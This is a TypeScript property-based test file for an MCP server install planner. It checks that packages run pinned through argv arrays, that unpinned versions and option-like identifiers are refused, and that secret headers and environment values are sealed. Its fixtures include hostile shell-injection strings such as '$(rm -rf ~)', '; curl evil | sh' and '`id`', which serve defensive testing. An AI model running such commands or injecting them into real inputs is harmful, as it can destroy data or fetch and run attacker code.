import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isAppError } from '../../shared/errors';
import type { ServerJson } from '../../shared/mcpRegistry';
import { sealServerConfig } from '../../shared/serverSecrets';
import { McpServerConfig } from '../../shared/mcp';
import { defaultServerName, isExactVersion, planBundleLaunch, planInstall, type PlannedBundle, type PlannedServer } from './installPlan';

const REGISTRY = 'https://registry.example';

function server(partial: Partial<ServerJson>): ServerJson {
  return { name: 'io.github.example/demo', description: 'Demo', version: '1.2.3', ...partial };
}

function npm(identifier: string, version: string | undefined, extra: Record<string, unknown> = {}): ServerJson {
  return server({ packages: [{ registryType: 'npm', identifier, version, transport: { type: 'stdio' }, ...extra }] });
}

function planned(value: ReturnType<typeof planInstall>): PlannedServer {
  if (value.kind !== 'server') throw new Error('expected a server plan');
  return value;
}

function refusal(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    if (isAppError(error) && error.code === 'InvalidInput') return error.message;
    throw error;
  }
  throw new Error('expected an InvalidInput refusal');
}

const exactVersion = fc.tuple(fc.nat(99), fc.nat(99), fc.nat(999)).map(([a, b, c]) => `${a}.${b}.${c}`);
const npmName = fc.tuple(fc.option(fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,10}$/), { nil: undefined }), fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,20}$/)).map(([scope, name]) => (scope ? `@${scope}/${name}` : name));
/** Values with everything a shell would read: quotes, $(), ;, |, newlines, spaces, leading dashes. */
const hostileValue = fc.oneof(fc.string(), fc.constantFrom('$(rm -rf ~)', '; curl evil | sh', "a' b \"c\"", '--registry=https://evil', '\n-e\n', '`id`', '&& echo pwned'));

describe('planInstall', () => {
  it('runs an npm package as `npx -y name@version` in an argv array, user values as their own items, unchanged', () => {
    fc.assert(
      fc.property(npmName, exactVersion, fc.array(hostileValue, { maxLength: 4 }), (name, version, values) => {
        const packageArguments = values.map((_, i) => ({ type: 'positional' as const, valueHint: `v${i}` }));
        const plan = planned(planInstall(npm(name, version, { packageArguments }), REGISTRY, { args: values }));
        expect(plan.config).toMatchObject({ transport: 'stdio', command: 'npx' });
        const config = McpServerConfig.parse(plan.config);
        if (config.transport !== 'stdio') throw new Error('stdio');
        expect(config.args).toEqual(['-y', `${name}@${version}`, ...values]);
        expect(plan.origin).toMatchObject({ registry: REGISTRY, kind: 'npm', identifier: name, version: '1.2.3' });
      }),
    );
  });

  it('pins each package type: uvx name==version, docker run -i --rm image:tag, dnx name@version', () => {
    const pypi = planned(planInstall(server({ packages: [{ registryType: 'pypi', identifier: 'mcp-server-time', version: '2026.10.19', transport: { type: 'stdio' } }] }), REGISTRY, {}));
    expect(pypi.config).toMatchObject({ command: 'uvx', args: ['mcp-server-time==2026.10.19'] });
    const oci = planned(
      planInstall(server({ packages: [{ registryType: 'oci', identifier: 'ghcr.io/example/server', version: '2.0.1', transport: { type: 'stdio' }, environmentVariables: [{ name: 'API_KEY', isRequired: true, isSecret: true }] }] }), REGISTRY, { env: { API_KEY: 'k-123' } }),
    );
    expect(oci.config).toMatchObject({ command: 'docker', args: ['run', '-i', '--rm', '-e', 'API_KEY', 'ghcr.io/example/server:2.0.1'], env: { API_KEY: 'k-123' } });
    const tagged = planned(planInstall(server({ packages: [{ registryType: 'oci', identifier: 'docker.io/example/server:1.0.0', transport: { type: 'stdio' } }] }), REGISTRY, {}));
    expect(tagged.config).toMatchObject({ args: ['run', '-i', '--rm', 'docker.io/example/server:1.0.0'] });
    const nuget = planned(planInstall(server({ packages: [{ registryType: 'nuget', identifier: 'Example.Server', version: '0.3.0', transport: { type: 'stdio' } }] }), REGISTRY, {}));
    expect(nuget.config).toMatchObject({ command: 'dnx', args: ['Example.Server@0.3.0', '--yes'] });
  });

  it('refuses every version that is not one release, and images without a tag, so nothing runs unpinned', () => {
    const ranges = fc.constantFrom('^1.2.3', '~1.2', '>=1.0.0', '1.x', '1.*', '*', 'latest', 'LATEST', '1.2.x', '', '1.0.0 || 2.0.0', '<2');
    fc.assert(
      fc.property(npmName, ranges, (name, version) => {
        expect(isExactVersion(version)).toBe(false);
        refusal(() => planInstall(npm(name, version), REGISTRY, {}));
      }),
    );
    expect(refusal(() => planInstall(npm('pkg', undefined), REGISTRY, {}))).toContain('names no version');
    expect(refusal(() => planInstall(server({ packages: [{ registryType: 'oci', identifier: 'ghcr.io/example/server', transport: { type: 'stdio' } }] }), REGISTRY, {}))).toContain('cannot be pinned');
    expect(refusal(() => planInstall(server({ packages: [{ registryType: 'oci', identifier: 'ghcr.io/example/server:latest', transport: { type: 'stdio' } }] }), REGISTRY, {}))).toContain('latest');
  });

  it('refuses identifiers a runtime could read as an option or that no registry allows', () => {
    const hostile = fc.oneof(
      fc.constantFrom('-y', '--registry=https://evil', '--package=evil', 'a b', 'pkg;rm', '$(id)', '../x', 'pkg\n--yes'),
      fc.string({ minLength: 1 }).map((s) => `-${s}`),
    );
    fc.assert(
      fc.property(hostile, fc.constantFrom('npm', 'pypi', 'nuget', 'oci'), (identifier, registryType) => {
        refusal(() => planInstall(server({ packages: [{ registryType, identifier, version: '1.0.0', transport: { type: 'stdio' } }] }), REGISTRY, {}));
      }),
    );
  });

  it('names a missing required environment variable, argument, URL variable or header with the flag that gives it', () => {
    expect(refusal(() => planInstall(npm('pkg', '1.0.0', { environmentVariables: [{ name: 'GITHUB_TOKEN', isRequired: true, isSecret: true, description: 'A token' }] }), REGISTRY, {}))).toBe(
      'The environment variable GITHUB_TOKEN is required (A token): give --env GITHUB_TOKEN=VALUE.',
    );
    expect(refusal(() => planInstall(npm('pkg', '1.0.0', { packageArguments: [{ type: 'positional', valueHint: 'directory', isRequired: true }] }), REGISTRY, {}))).toContain('argument directory is required');
    expect(refusal(() => planInstall(npm('pkg', '1.0.0', { packageArguments: [{ type: 'named', name: '--port', isRequired: true }] }), REGISTRY, {}))).toContain('give --arg --port=VALUE');
    const remote = server({ remotes: [{ type: 'streamable-http', url: 'https://mcp.example.com/{tenant}/mcp', variables: { tenant: { isRequired: true } }, headers: [{ name: 'X-Api-Key', isRequired: true, isSecret: true }] }] });
    expect(refusal(() => planInstall(remote, REGISTRY, { headers: { 'X-Api-Key': 'k' } }))).toContain('give --var tenant=VALUE');
    expect(refusal(() => planInstall(remote, REGISTRY, { variables: { tenant: 'acme' } }))).toBe('The header X-Api-Key is required: give --header X-Api-Key=VALUE.');
    expect(refusal(() => planInstall(remote, REGISTRY, { variables: { tenant: 'acme', tennant: 'x' }, headers: { 'X-Api-Key': 'k' } }))).toContain('no variable tennant');
  });

  it('fills a remote URL so no variable value can change its host, and seals its secret header', () => {
    const remote = server({ remotes: [{ type: 'streamable-http', url: 'https://{region}.mcp.example.com/{tenant}/mcp', variables: { region: { default: 'eu' }, tenant: { isRequired: true } }, headers: [{ name: 'X-Api-Key', isRequired: true, isSecret: true }] }] });
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), fc.string({ minLength: 1, maxLength: 20 }), (tenant, key) => {
        let plan: PlannedServer;
        try {
          plan = planned(planInstall(remote, REGISTRY, { variables: { tenant }, headers: { 'X-Api-Key': key } }));
        } catch (error) {
          if (isAppError(error) && error.code === 'InvalidInput') return;
          throw error;
        }
        const config = McpServerConfig.parse(plan.config);
        if (config.transport === 'stdio') throw new Error('http');
        expect(new URL(config.url).host).toBe('eu.mcp.example.com');
        const sealed = sealServerConfig(config);
        if (sealed.config.transport === 'stdio') throw new Error('http');
        expect(sealed.config.headers).toEqual({});
        expect(sealed.config.secretHeaders).toEqual(['X-Api-Key']);
        expect(sealed.values['header:X-Api-Key']).toBe(key);
      }),
    );
    const moved = planned(planInstall(remote, REGISTRY, { variables: { tenant: 'acme', region: 'us' }, headers: { 'X-Api-Key': 'k' }, endpointOrigin: 'http://127.0.0.1:4100/ignored' }));
    expect(moved.config).toMatchObject({ transport: 'http', url: 'http://127.0.0.1:4100/acme/mcp' });
    expect(moved.warnings.join(' ')).toContain('instead of https://us.mcp.example.com');
  });

  it('checks choices, and keeps the environment of a stdio package for sealing', () => {
    const withChoice = npm('pkg', '1.0.0', { environmentVariables: [{ name: 'MODE', choices: ['read', 'write'], isRequired: true }, { name: 'TOKEN', isSecret: true }] });
    expect(refusal(() => planInstall(withChoice, REGISTRY, { env: { MODE: 'admin' } }))).toContain('must be one of read, write');
    const plan = planned(planInstall(withChoice, REGISTRY, { env: { MODE: 'read', TOKEN: 'secret-value' } }));
    const sealed = sealServerConfig(McpServerConfig.parse(plan.config));
    if (sealed.config.transport !== 'stdio') throw new Error('stdio');
    expect(sealed.config.env).toEqual({});
    expect(sealed.config.secretEnv).toEqual(['MODE', 'TOKEN']);
  });

  it('plans an mcpb bundle only with its fileSha256, then runs its manifest command from the unpacked folder', () => {
    const bundle = (fileSha256?: string) => server({ packages: [{ registryType: 'mcpb', identifier: 'https://example.com/demo.mcpb', fileSha256, transport: { type: 'stdio' } }] });
    expect(refusal(() => planInstall(bundle(), REGISTRY, {}))).toContain('no fileSha256');
    const plan = planInstall(bundle('a'.repeat(64)), REGISTRY, { variables: { api_url: 'https://api.example' } }) as PlannedBundle;
    expect(plan).toMatchObject({ kind: 'mcpb', url: 'https://example.com/demo.mcpb', sha256: 'a'.repeat(64) });
    const launch = planBundleLaunch(plan, { command: 'node', args: ['${__dirname}/server/index.js', '--api', '${user_config.api_url}'] }, '/data/mcpb/demo');
    expect(launch.config).toMatchObject({ command: 'node', args: ['/data/mcpb/demo/server/index.js', '--api', 'https://api.example'], cwd: '/data/mcpb/demo' });
    expect(refusal(() => planBundleLaunch({ ...plan, userConfig: {} }, { command: 'node', args: ['${user_config.api_url}'] }, '/d'))).toContain('--var api_url=VALUE');
  });

  it('makes a saved server name from the registry name', () => {
    expect(defaultServerName('io.github.modelcontextprotocol/everything')).toBe('everything');
    expect(defaultServerName('com.example/My Server.v2')).toBe('My-Server-v2');
    fc.assert(
      fc.property(fc.string(), (name) => {
        expect(defaultServerName(`a.b/${name}`)).toMatch(/^[A-Za-z0-9][A-Za-z0-9_-]*$/);
      }),
    );
  });
});
